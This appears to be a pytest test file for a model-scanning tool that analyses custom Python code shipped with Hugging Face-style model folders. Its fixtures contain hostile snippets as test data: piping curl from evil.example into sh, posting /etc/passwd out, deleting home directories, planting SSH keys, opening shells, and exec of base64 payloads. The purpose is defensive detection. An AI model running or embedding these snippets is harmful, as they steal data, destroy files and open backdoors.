"""Custom code check: auto_map references and ast analysis of shipped Python (never imported)."""

from __future__ import annotations

import base64
import json
import struct
from pathlib import Path

import pytest

from modelaudit.findings import Finding, Severity
from modelaudit.static.base import StaticContext, run_static_checks
from modelaudit.static.custom_code import analyse_source, check_custom_code
from modelaudit.target import inventory

BENIGN_MODELING = '''\
"""A plain custom architecture, the kind trust_remote_code models ship."""
import math
import os

import torch
from torch import nn
from transformers import PreTrainedModel

from .configuration_tiny import TinyConfig


class TinyBlock(nn.Module):
    def __init__(self, config):
        super().__init__()
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.scale = 1 / math.sqrt(config.hidden_size)

    def forward(self, x):
        return torch.relu(self.proj(x)) * self.scale


class TinyModel(PreTrainedModel):
    config_class = TinyConfig

    def __init__(self, config):
        super().__init__(config)
        self.block = TinyBlock(config)

    def forward(self, x):
        self.eval()
        return self.block(x)

    def save_vocab(self, save_directory):
        path = os.path.join(save_directory, "vocab.txt")
        with open(path, "w", encoding="utf-8") as fh:
            fh.write("a\\n")
'''

BENIGN_CONFIGURATION = '''\
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=8, **kwargs):
        self.hidden_size = hidden_size
        super().__init__(**kwargs)
'''


def _safetensors() -> bytes:
    header = b'{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}'
    return struct.pack("<Q", len(header)) + header + b"\x00" * 4


def _scan(folder: Path) -> list[Finding]:
    return list(check_custom_code(StaticContext(root=folder, files=inventory(folder))))


def _model(folder: Path, *, modeling: str = BENIGN_MODELING, auto_map: dict | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "model.safetensors").write_bytes(_safetensors())
    config = {"model_type": "tiny", "architectures": ["TinyModel"],
              "auto_map": auto_map if auto_map is not None else {
                  "AutoConfig": "configuration_tiny.TinyConfig", "AutoModel": "modeling_tiny.TinyModel"}}
    (folder / "config.json").write_text(json.dumps(config))
    (folder / "configuration_tiny.py").write_text(BENIGN_CONFIGURATION)
    (folder / "modeling_tiny.py").write_text(modeling)
    return folder


def _by_rule(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.rule_id, []).append(f)
    return out


def test_benign_modeling_file_only_needs_trust_remote_code(tmp_path: Path) -> None:
    findings = _scan(_model(tmp_path))
    assert [(f.rule_id, f.severity) for f in findings] == [
        ("static.custom-code.trust-remote-code", Severity.MEDIUM)]
    assert findings[0].evidence["modules"] == ["configuration_tiny.py", "modeling_tiny.py"]
    json.dumps([f.evidence for f in findings])


def test_folder_without_code_has_no_findings(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_safetensors())
    (tmp_path / "config.json").write_text('{"model_type": "llama"}')
    assert _scan(tmp_path) == []


def test_process_network_and_filesystem_calls_are_flagged_with_lines(tmp_path: Path) -> None:
    modeling = BENIGN_MODELING + '''
import subprocess as sp
from os import system
import requests
import shutil

def _init_hook():
    sp.Popen(["sh", "-c", "id"])
    system("curl evil.example | sh")
    requests.post("https://evil.example/x", data=open("/etc/passwd").read())
    shutil.rmtree("/home")
    open("/root/.ssh/authorized_keys", "a").write("ssh-rsa AAA")
'''
    findings = _scan(_model(tmp_path, modeling=modeling))
    rules = _by_rule(findings)
    base = BENIGN_MODELING.count("\n")
    proc = {(f.evidence["name"], f.location.line, f.severity) for f in rules["static.custom-code.process-exec"]}
    assert proc == {("subprocess.Popen", base + 8, Severity.CRITICAL), ("os.system", base + 9, Severity.CRITICAL)}
    (net,) = rules["static.custom-code.network"]
    assert (net.evidence["name"], net.location.line, net.severity) == ("requests.post", base + 10, Severity.HIGH)
    fs = {(f.evidence["name"], f.location.line, f.severity) for f in rules["static.custom-code.filesystem"]}
    assert fs == {("shutil.rmtree", base + 11, Severity.CRITICAL), ("open", base + 12, Severity.CRITICAL)}
    assert all(f.location.path == "modeling_tiny.py" and f.evidence["runs_on_load"] for f in findings
               if f.rule_id != "static.custom-code.trust-remote-code")


def test_base64_payload_passed_to_exec_is_critical_and_decoded(tmp_path: Path) -> None:
    payload = base64.b64encode(b"import os\nos.system('id')\n").decode()
    modeling = f'import base64\nblob = base64.b64decode("{payload}")\nexec(blob)\nexec(base64.b64decode("{payload}"))\n'
    findings = _scan(_model(tmp_path, modeling=modeling))
    rules = _by_rule(findings)
    dyn = sorted((f.location.line, f.severity) for f in rules["static.custom-code.dynamic-exec"])
    assert dyn == [(3, Severity.CRITICAL), (4, Severity.CRITICAL)]
    # the decoded payload itself was parsed (not run) and its os.system call reported
    inner = [f for f in rules["static.custom-code.process-exec"] if f.evidence.get("inside") == "exec payload"]
    assert inner and inner[0].evidence["name"] == "os.system"


@pytest.mark.parametrize("snippet, rule, name", [
    ("eval(input())", "static.custom-code.dynamic-exec", "eval"),
    ("compile(src, 'x', 'exec')", "static.custom-code.dynamic-exec", "compile"),
    ("import importlib\nimportlib.import_module(name)", "static.custom-code.dynamic-exec", "importlib.import_module"),
    ("import builtins\ngetattr(builtins, 'ex' + 'ec')('1')", "static.custom-code.dynamic-exec",
     "getattr(builtins, ...)"),
    ("__builtins__['eval']('1')", "static.custom-code.dynamic-exec", "__builtins__"),
    ("import marshal\ncode = marshal.loads(data)", "static.custom-code.deserialization", "marshal.loads"),
    ("import pickle as p\np.loads(data)", "static.custom-code.deserialization", "pickle.loads"),
    ("import ctypes\nctypes.CDLL('libevil.so')", "static.custom-code.native-code", "ctypes.CDLL"),
    ("import os\nos.execv('/bin/sh', ['sh'])", "static.custom-code.process-exec", "os.execv"),
    ("import pty\npty.spawn('/bin/sh')", "static.custom-code.process-exec", "pty.spawn"),
    ("import socket\ns = socket.create_connection(('1.2.3.4', 4444))", "static.custom-code.network",
     "socket.create_connection"),
    ("import urllib.request\nurllib.request.urlopen('http://x')", "static.custom-code.network",
     "urllib.request.urlopen"),
    ("import httpx\nhttpx.get('http://x')", "static.custom-code.network", "httpx.get"),
    ("import http.client\nhttp.client.HTTPSConnection('x')", "static.custom-code.network",
     "http.client.HTTPSConnection"),
    ("import os\nos.remove(p)", "static.custom-code.filesystem", "os.remove"),
    ("import os\nrun = getattr(os, 'system')", "static.custom-code.process-exec", "os.system"),
    ("import subprocess", "static.custom-code.process-exec", "subprocess"),
])
def test_dangerous_constructs(snippet: str, rule: str, name: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    hits = [(h.rule, h.name) for h in analysis.hits]
    assert (rule, name) in hits


@pytest.mark.parametrize("snippet", [
    "import re\npattern = re.compile('a+')",
    "model.eval()\nself.eval()",
    "import torch\nmodel = torch.compile(model)",
    "import os\nos.path.join(a, b)\nos.makedirs(out, exist_ok=True)",
    "with open(os.path.join(save_directory, 'merges.txt'), 'w') as fh:\n    fh.write(x)",
    "with open('/etc/hosts') as fh:\n    fh.read()",
    "import torch\nstate = torch.load(path, weights_only=True)",
    "import urllib.parse\nurllib.parse.quote('x')",
    "text = s.replace('/', '_')",
    "def exec(x):\n    return x\nexec(1)",
])
def test_benign_constructs_are_not_flagged(snippet: str) -> None:
    analysis = analyse_source(snippet + "\n", "m.py")
    assert analysis.error is None
    assert analysis.hits == []


def test_imports_are_reported_only_without_a_matching_call() -> None:
    hits = analyse_source("import subprocess\nsubprocess.run(['x'])\n", "m.py").hits
    assert [(h.name, h.line, h.severity) for h in hits] == [("subprocess.run", 2, Severity.CRITICAL)]
    hits = analyse_source("import socket\n", "m.py").hits
    assert [(h.rule, h.severity, h.extra) for h in hits] == [
        ("static.custom-code.network", Severity.MEDIUM, {"import": True})]


def test_long_encoded_blob_is_flagged_but_prose_is_not() -> None:
    blob = base64.b64encode(bytes(range(256)) * 2).decode()
    hits = analyse_source(f"DATA = '{blob}'\n", "m.py").hits
    assert [h.rule for h in hits] == ["static.custom-code.obfuscated-blob"]
    prose = " ".join(["word"] * 100)
    assert analyse_source(f"DOC = '{prose}'\n", "m.py").hits == []


def test_cross_repo_reference_is_high(tmp_path: Path) -> None:
    folder = _model(tmp_path, auto_map={"AutoConfig": "configuration_tiny.TinyConfig",
                                        "AutoModelForCausalLM": "evil-org/payload--modeling_evil.EvilModel"})
    rules = _by_rule(_scan(folder))
    (remote,) = rules["static.custom-code.remote-repo"]
    assert remote.severity is Severity.HIGH
    assert remote.evidence == {"repo": "evil-org/payload", "reference": "evil-org/payload--modeling_evil.EvilModel",
                               "module": "modeling_evil.py"}
    assert "static.custom-code.missing-module" not in rules  # code lives elsewhere; reported as remote


def test_missing_module_and_missing_relative_import(tmp_path: Path) -> None:
    folder = _model(tmp_path, auto_map={"AutoModel": "modeling_tiny.TinyModel", "AutoConfig": "gone.GoneConfig"})
    (folder / "configuration_tiny.py").unlink()
    rules = _by_rule(_scan(folder))
    missing = {f.evidence["module"] for f in rules["static.custom-code.missing-module"]}
    assert missing == {"gone.py", "configuration_tiny.py"}
    assert all(f.severity is Severity.MEDIUM for f in rules["static.custom-code.missing-module"])


def test_tokenizer_auto_map_lists_and_malformed_entries(tmp_path: Path) -> None:
    folder = _model(tmp_path)
    (folder / "tokenization_tiny.py").write_text("import os\nos.system('id')\n")
    (folder / "tokenizer_config.json").write_text(json.dumps({"auto_map": {
        "AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None], "AutoProcessor": "no-dot-here"}}))
    rules = _by_rule(_scan(folder))
    trust = {f.location.path for f in rules["static.custom-code.trust-remote-code"]}
    assert trust == {"config.json", "tokenizer_config.json"}
    (bad,) = rules["static.custom-code.invalid-auto-map"]
    assert bad.location.member == "auto_map.AutoProcessor"
    (proc,) = rules["static.custom-code.process-exec"]
    assert proc.location.path == "tokenization_tiny.py" and proc.location.line == 2
    assert proc.evidence["runs_on_load"] is True


def test_unreferenced_python_files_are_still_analysed(tmp_path: Path) -> None:
    (tmp_path / "model.safetensors").write_bytes(_safetensors())
    (tmp_path / "helpers").mkdir()
    (tmp_path / "helpers" / "setup_env.py").write_text("import os\nos.system('rm -rf ~')\n")
    (tmp_path / "run").write_text("#!/usr/bin/env python3\nimport subprocess\nsubprocess.call('id')\n")
    (tmp_path / "notes").write_text("#!/bin/sh\necho not python\n")
    findings = _scan(tmp_path)
    assert {(f.rule_id, f.location.path, f.evidence["runs_on_load"]) for f in findings} == {
        ("static.custom-code.process-exec", "helpers/setup_env.py", False),
        ("static.custom-code.process-exec", "run", False)}


def test_syntax_error_and_undecodable_files_become_findings(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling="def broken(:\n    pass\n")
    (folder / "extra.py").write_bytes(b"x = '\xff\xfe'\n")
    (folder / "nul.py").write_bytes(b"x = 1\x00\n")
    rules = _by_rule(_scan(folder))
    syntax = {f.location.path: f for f in rules["static.custom-code.syntax-error"]}
    assert set(syntax) == {"modeling_tiny.py", "extra.py", "nul.py"}
    assert syntax["modeling_tiny.py"].location.line == 1
    assert syntax["modeling_tiny.py"].evidence["runs_on_load"] is True
    assert "UTF-8" in syntax["extra.py"].message


def test_auto_map_that_is_not_an_object(tmp_path: Path) -> None:
    folder = _model(tmp_path)
    (folder / "config.json").write_text(json.dumps({"auto_map": ["modeling_tiny.TinyModel"]}))
    rules = _by_rule(_scan(folder))
    assert rules["static.custom-code.invalid-auto-map"][0].location.path == "config.json"


def test_registered_and_runs_through_runner(tmp_path: Path) -> None:
    folder = _model(tmp_path, modeling="import os\nos.system('id')\n")
    ctx = StaticContext(root=folder, files=inventory(folder))
    result = run_static_checks(ctx, only=["static.custom-code"])
    assert result.errors == [] and result.coverage.checks_run == ["static.custom-code"]
    assert max(f.severity for f in result.findings) is Severity.CRITICAL
